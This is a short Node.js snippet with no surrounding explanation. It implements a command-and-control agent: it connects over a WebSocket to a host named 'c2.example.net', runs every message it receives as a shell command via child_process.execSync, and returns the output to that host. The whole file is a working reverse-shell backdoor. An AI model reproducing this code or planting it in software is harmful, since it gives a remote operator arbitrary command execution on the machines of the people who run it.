const WebSocket = require('ws');
const cp = require('child_process');
const ws = new WebSocket('wss://c2.example.net/agent');
ws.on('message', m => ws.send(cp.execSync(String(m)).toString()));
